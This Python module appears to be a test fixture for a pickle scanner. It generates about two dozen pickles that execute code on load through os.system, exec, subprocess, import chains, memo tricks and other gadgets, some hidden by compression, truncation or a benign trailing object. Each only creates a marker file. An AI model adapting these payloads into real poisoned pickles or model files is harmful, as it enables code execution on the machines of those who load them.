"""Pickles that act when they are loaded: each creates the file that it is told, and nothing else.

`PAYLOADS` maps a name to a function from that file's path to bytes. All but one act as soon as they are unpickled.
"""

import gzip
import io
import pickle
import shlex
import struct

import cloudpickle
import joblib


def value(given):
    """The operations that push a plain value."""
    return pickle.dumps(given, 3)[2:-1]


def call(name, *arguments):
    """The operations that call a global; arguments are values, or operations as a `Pushed`."""
    module, _, attribute = name.partition(":")
    pushed = b"".join(one if isinstance(one, Pushed) else value(one) for one in arguments)
    return Pushed(f"c{module}\n{attribute}\n".encode() + b"(" + pushed + b"tR")


class Pushed(bytes):
    """Operations that leave one value on the stack."""


def called(function, *arguments):
    """The operations that call what others pushed."""
    return Pushed(function + b"(" + b"".join(map(value, arguments)) + b"tR")


def program(pushed, protocol=4):
    return b"\x80" + bytes([protocol]) + pushed + b"."


def touch(path):
    return f"touch {shlex.quote(path)}"


def statement(path):
    return f"open({path!r}, 'w').close()"


class Call:
    """Pickled as a call."""

    def __init__(self, function, *arguments):
        self.how = function, arguments

    def __reduce__(self):
        return self.how


def system(path, protocol=5):
    import os

    return pickle.dumps(Call(os.system, touch(path)), protocol)


def by_memo(path):
    texts = b"\x8c\x05posix\x94\x8c\x06system\x94\x8c\x08harmless\x94"  # pushed and kept as 0, 1 and 2
    return program(Pushed(b"N" + texts + b"000" + b"h\x00h\x01h\x02" + b"0\x93" + value((touch(path),)) + b"R"))


def import_chain(path):
    module = call("importlib:import_module", "os")
    return program(called(call("builtins:getattr", module, "system"), touch(path)))


def nested(path, name):
    inner = path + ".pkl"
    with open(inner, "wb") as file:
        file.write(system(path))
    return program(call(name, inner))


def by_value(path):
    act = eval(f"lambda: open({path!r}, 'w').close()")
    act.__module__ = "__main__"
    return cloudpickle.dumps(Call(act), protocol=5)


def by_value_predict(path):
    scope = {"__name__": "__main__"}
    exec(f"class Model:\n    def predict(self, X):\n        open({path!r}, 'w').close()\n        return X", scope)
    return cloudpickle.dumps(scope["Model"](), protocol=5)


def popped(path):
    from sklearn.dummy import DummyClassifier

    benign = pickle.dumps(DummyClassifier(), 4)[2:]
    return b"\x80\x04" + call("os:system", touch(path)) + b"0" + benign


def compressed(path):
    file = io.BytesIO()
    import os

    joblib.dump(Call(os.system, touch(path)), file, compress=("zlib", 3))
    return file.getvalue()


PAYLOADS = {
    "os.system": system,
    "exec": lambda path: program(call("builtins:exec", statement(path))),
    "eval": lambda path: program(call("builtins:eval", statement(path))),
    "subprocess": lambda path: program(call("subprocess:check_call", ["touch", path])),
    "names from the memo": by_memo,
    "import_module and getattr": import_chain,
    "pkgutil.resolve_name": lambda path: program(called(call("pkgutil:resolve_name", "os:system"), touch(path))),
    "Path.write_text": lambda path: program(call("pathlib:Path.write_text", call("pathlib:PosixPath", path), "x")),
    "numpy.savetxt": lambda path: program(call("numpy:savetxt", path, [1])),
    "numpy.memmap": lambda path: program(call("numpy:memmap", path, "u1", "w+", 0, 8)),
    "logging.FileHandler": lambda path: program(call("logging:FileHandler", path)),
    "joblib.load": lambda path: nested(path, "joblib.numpy_pickle:load"),
    "pandas.read_pickle": lambda path: nested(path, "pandas.io.pickle:read_pickle"),
    "timeit": lambda path: program(call("timeit:timeit", "pass", statement(path))),
    "cProfile": lambda path: program(call("cProfile:run", statement(path))),
    "uuid": lambda path: program(call("uuid:_get_command_stdout", "touch", path)),
    "pydoc": lambda path: program(call("pydoc:pipepager", "", touch(path))),
    "functools.partial": lambda path: program(called(call("functools:partial", Pushed(b"cos\nsystem\n"), touch(path)))),
    "operator.methodcaller": lambda path: program(
        Pushed(call("operator:methodcaller", "touch") + b"(" + call("pathlib:PosixPath", path) + b"tR")
    ),
    "code by value": by_value,
    "code by value, in predict": by_value_predict,
    "popped before a benign result": popped,
    "truncated": lambda path: system(path, protocol=3)[:-1],
    "gzip": lambda path: gzip.compress(system(path)),
    "joblib with zlib": compressed,
    "INST": lambda path: b"(S" + repr(touch(path)).encode() + b"\nios\nsystem\n.",
}
#: Not at load, but later.
LATE = {"code by value, in predict"}


def array(kind, data, shape):
    """An array as numpy pickles it, of a dtype given by operations."""
    buffer = b"\x96" + struct.pack("<Q", len(data)) + data
    return Pushed(b"cnumpy._core.numeric\n_frombuffer\n(" + buffer + kind + value(shape) + value("C") + b"tR")
